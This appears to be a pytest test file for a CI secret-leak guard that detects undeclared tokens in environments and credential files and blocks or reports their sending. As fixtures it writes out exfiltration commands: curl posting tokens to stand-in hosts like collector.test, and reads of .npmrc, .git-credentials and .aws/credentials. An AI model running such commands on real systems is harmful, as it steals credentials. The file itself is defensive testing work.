# SPDX-License-Identifier: MIT
"""Secrets that nobody declared: found where the job has them, and held back like any other."""

from __future__ import annotations

import json
import os
import shlex
import stat
from collections.abc import Callable
from pathlib import Path

import pytest

from lab import Lab, steps, tokens
from lab.guard import FINDINGS, Guarded
from lab.network import BARE
from lab.tokens import Token

pytestmark = pytest.mark.root

Guard = Callable[..., Guarded]


def step(lab: Lab, token: Token, command: str) -> list[str]:
    """A step that gets ``token`` in its environment while the guard is in force.

    It waits a little: on a busy machine a program may be over before its environment was read
    (docs/adr/0006).
    """
    (lab.directory / "value").write_text(token.value)
    script = lab.directory / "step.sh"
    script.write_text(f"sleep 0.3\n{command}\n")
    read = f"{token.name}=$(cat {lab.directory}/value) && export {token.name}"
    return ["sh", "-c", f"{read} && exec sh -e {shlex.quote(str(script))}"]


def assert_found(run: Guarded, token: Token, source: str) -> dict[str, object]:
    """It was found once, is said with its source, and its value is nowhere."""
    (event,) = (e for e in run.events("secretfound") if e["name"].startswith(token.name))
    assert event["source"] == source
    assert len(event["digest"]) == 8
    (view,) = (view for view in run.report["secrets"] if view["name"] == event["name"])
    assert (view["source"], view["digest"]) == (event["source"], event["digest"])
    assert run.shows(token) == []
    return view


def assert_stopped_or_told(lab: Lab, run: Guarded, token: Token) -> None:
    """Red in any case. docs/adr/0006-found-secrets.md has the race: found too late is said."""
    assert run.code == FINDINGS, run.stderr
    leaks = [finding for finding in run.findings() if finding["severity"] == "critical"]
    assert {finding["secret"] for finding in leaks} == {token.name}
    if all(finding["bytes_left"] == 0 for finding in leaks):
        assert not lab.collector.received(token.value.encode())


@pytest.mark.parametrize("mode", ["audit", "block"])
def test_an_undeclared_token_of_a_known_format_is_stopped(
    lab: Lab, leakstop: Guard, mode: str
) -> None:
    token = tokens.github("WHATEVER")
    run = leakstop(
        step(lab, token, 'curl -s -m 5 -d "q=$WHATEVER" https://collector.test/'), mode=mode
    )
    assert_stopped_or_told(lab, run, token)
    view = assert_found(run, token, "environment of sh")
    assert (view["kind"], view["placed_by"], view["guessed"]) == (
        "GitHub personal access token",
        "format",
        False,
    )


@pytest.mark.parametrize("mode", ["audit", "block"])
def test_an_undeclared_home_made_token_is_stopped_at_a_bare_address(
    lab: Lab, leakstop: Guard, mode: str
) -> None:
    token = tokens.home_made("SOMETHING_TOKEN")
    command = f'curl -s -m 5 -d "q=$SOMETHING_TOKEN" http://{BARE}/'
    run = leakstop(step(lab, token, command), mode=mode)
    assert_stopped_or_told(lab, run, token)
    view = assert_found(run, token, "environment of sh")
    assert (view["kind"], view["guessed"]) == ("", True)


def test_a_guess_does_not_stop_a_build_at_a_host_that_a_rule_names(
    lab: Lab, leakstop: Guard
) -> None:
    token = tokens.home_made("SOMETHING_TOKEN")
    command = 'curl -sS -m 5 -H "X-Key: $SOMETHING_TOKEN" https://home.test/'
    policy = "version: 1\nallow: home.test\n"
    run = leakstop(step(lab, token, command), mode="block", policy=policy)
    assert run.code == 0, run.stderr
    assert lab.home.bytes_of(token.value.encode()) == len(token.value)
    assert_found(run, token, "environment of sh")


def test_a_line_for_its_name_places_it(lab: Lab, leakstop: Guard) -> None:
    token = tokens.home_made("SOMETHING_TOKEN")
    policy = "version: 1\nallow: [home.test, other.test]\nsecrets: {SOMETHING_TOKEN: home.test}\n"
    send = 'curl -s -m 5 -H "X-Key: $SOMETHING_TOKEN" https://{}/'
    script = f"{send.format('home.test')}; {send.format('other.test')}"
    run = leakstop(step(lab, token, script), mode="block", policy=policy)
    assert run.code == FINDINGS
    assert lab.home.bytes_of(token.value.encode()) == len(token.value)
    assert lab.other.connections == []
    assert assert_found(run, token, "environment of sh")["placed_by"] == "policy"


def test_each_step_that_has_it_is_listed(lab: Lab) -> None:
    """Whoever stole in the second one had it, too: what to rotate hangs on that."""
    token = tokens.home_made("SHARED_TOKEN")
    with steps.job(lab, "") as job:
        for name in ("first", "second"):
            job.step(name, *step(lab, token, "true"))
        job.step("third", "sleep", "0.3")
    (view,) = (each for each in job.report["secrets"] if each["name"] == token.name)
    assert view["steps"] == ["first", "second"]


def test_in_the_very_program_that_brings_it(lab: Lab, leakstop: Guard) -> None:
    """Nobody knew it when the kernel scanned this command line: it is marked late, in time."""
    token = tokens.github("LATE")
    (lab.directory / "value").write_text(token.value)
    value = f"$(cat {lab.directory}/value)"
    send = "sleep 0.5; curl -s -m 5 -d q=$0 https://collector.test/"
    run = leakstop(["sh", "-c", f'LATE={value} exec sh -c "{send}" {value}'.replace("$0", "\\$0")])
    assert lab.collector.connections == []
    (started,) = (
        e
        for e in run.events("exec")
        if "sleep 0.5" in " ".join(e["argv"]) and e["argv"][-1] == "***LATE***"
    )
    assert [hit["secret"] for hit in started["hits"]] == ["LATE"]
    assert_found(run, token, "environment of sh")


def test_the_environment_that_the_command_begins_with(lab: Lab, leakstop: Guard) -> None:
    token = tokens.npm("FROM_OUTSIDE")
    run = leakstop(
        ["sh", "-c", 'curl -s -m 5 -d "q=$FROM_OUTSIDE" https://collector.test/'], env=token.env
    )
    assert lab.collector.connections == []
    assert run.code == FINDINGS
    (event,) = (e for e in run.events("secretfound") if e["name"] == token.name)
    assert event["source"].startswith("environment of")


def test_an_ordinary_environment_gives_nothing(lab: Lab, leakstop: Guard) -> None:
    env = {
        "GITHUB_SHA": os.urandom(20).hex(),
        "CACHE_KEY": f"linux-{os.urandom(32).hex()}",
        "SSH_AUTH_SOCK": "/tmp/ssh-0aB1cD2eF3/agent.12",
        "TOKEN_FILE": "/run/secrets/token",
    }
    command = (
        'for i in $(seq 20); do env N=$i true; done; curl -s -m 5 "https://other.test/$GITHUB_SHA"'
    )
    run = leakstop(["sh", "-c", command], env=env)
    assert run.code == 0, run.stderr
    assert (run.events("secretfound"), run.report["secrets"]) == ([], [])
    assert len(lab.other.connections) == 1


@pytest.mark.parametrize("how", ["write", "rename"])
def test_a_credential_file_that_is_written(lab: Lab, leakstop: Guard, how: str) -> None:
    token = tokens.home_made("TOKEN")
    home = lab.directory / "home"
    home.mkdir()
    (lab.directory / "value").write_text(token.value)
    line = f'"//r.test/:_authToken=$(cat {lab.directory}/value)"'
    write = {
        "write": f"echo {line} > $HOME/.npmrc",
        "rename": f"echo {line} > $HOME/.npmrc.123; mv $HOME/.npmrc.123 $HOME/.npmrc",
    }[how]
    send = f"curl -s -m 5 -d q=$(cat {lab.directory}/value) http://{BARE}/"
    run = leakstop(
        ["sh", "-c", f"/bin/true; sleep 0.5; {write}; sleep 0.5; {send}"], env={"HOME": str(home)}
    )
    assert lab.collector.connections == []
    assert run.code == FINDINGS, run.stderr
    (event,) = run.events("secretfound")
    assert (event["name"], event["source"]) == (".npmrc _authToken", f"{home}/.npmrc")
    assert run.shows(token) == []


def test_files_in_directories_that_come_later_and_those_that_are_there(
    lab: Lab, leakstop: Guard
) -> None:
    home, first, second = lab.directory / "home", tokens.home_made("A"), tokens.home_made("B")
    (home / ".aws").mkdir(parents=True)
    (home / ".aws/credentials").write_text(f"[x]\naws_secret_access_key = {first.value}\n")
    config = {"auths": {"r.test": {"identitytoken": second.value}}}
    (lab.directory / "config").write_text(json.dumps(config))
    copy = f"mkdir $HOME/.docker; cp {lab.directory}/config $HOME/.docker/config.json"
    script = f"sleep 0.5; {copy}; sleep 0.5"
    run = leakstop(["sh", "-c", script], env={"HOME": str(home)})
    sources = {event["source"] for event in run.events("secretfound")}
    assert sources == {f"{home}/.aws/credentials", f"{home}/.docker/config.json"}


def test_what_is_no_ordinary_file_is_not_opened(lab: Lab, leakstop: Guard) -> None:
    home, token = lab.directory / "home", tokens.home_made("TOKEN")
    home.mkdir()
    os.mkfifo(home / ".netrc")
    (home / "real").write_text(f"https://x:{token.value}@git.test\n")
    (home / ".git-credentials").symlink_to("real")
    (home / ".gem").mkdir()
    os.mknod(home / ".gem/credentials", stat.S_IFCHR | 0o666, os.makedev(1, 5))
    run = leakstop(["sh", "-c", "sleep 0.5"], env={"HOME": str(home)})
    assert run.code == 0, run.stderr
    assert run.events("secretfound") == []


def test_more_than_the_tables_hold_is_said(lab: Lab, leakstop: Guard) -> None:
    values = [tokens.home_made(f"TOKEN_{i}").value for i in range(300)]
    (lab.directory / "values").write_text(
        "".join(f"V{i}_TOKEN={v}\n" for i, v in enumerate(values))
    )
    script = f"set -a; . {lab.directory}/values; env true; sleep 3; env A=1 true"
    run = leakstop(["sh", "-c", script])
    found = run.events("secretfound")
    assert len(found) == 256
    notes = " ".join(run.report["coverage"]["notes"])
    assert "could not be watched, because the table was full" in notes
    outputs = run.outputs().decode(errors="replace")
    assert not [value for value in values[:256] if value in outputs]
    assert json.dumps(run.report)


@pytest.mark.parametrize("mode", ["audit", "block"])
def test_a_canary_is_stopped_wherever_it_goes(lab: Lab, leakstop: Guard, mode: str) -> None:
    policy = "version: 1\nallow: home.test\n"
    script = 'curl -s -m 5 -d "q=$DEPLOY_SERVICE_TOKEN" https://home.test/'
    run = leakstop(["sh", "-c", script], mode=mode, policy=policy, options=["--canaries"])
    assert lab.home.connections == []
    assert run.code == FINDINGS, run.stderr
    (finding,) = run.findings("secret-in-argv")
    assert finding["secret"] == "CANARY_VARIABLE"
    assert finding["title"] == "A canary on a command line was on its way out"


def test_canaries_are_files_too_that_touch_nothing_and_go(
    lab: Lab, leakstop: Guard, tmp_path: Path
) -> None:
    files = "/root/.npmrc /root/.git-credentials /root/.aws/credentials"
    script = f"cat {files} > {tmp_path}/seen; sleep 0.2"
    mine = {name: Path("/root", name).exists() for name in (".npmrc", ".git-credentials", ".aws")}
    run = leakstop(["sh", "-c", script], options=["--canaries"])
    assert run.code in (0, 1)
    shown = (tmp_path / "seen").read_text()
    assert mine[".npmrc"] or "_authToken=npm_" in shown
    assert {name: Path("/root", name).exists() for name in mine} == mine
    outputs = run.outputs().decode(errors="replace")
    for line in shown.splitlines() if not any(mine.values()) else ():
        value = line.rpartition("=")[2].strip()
        assert not value or value not in outputs
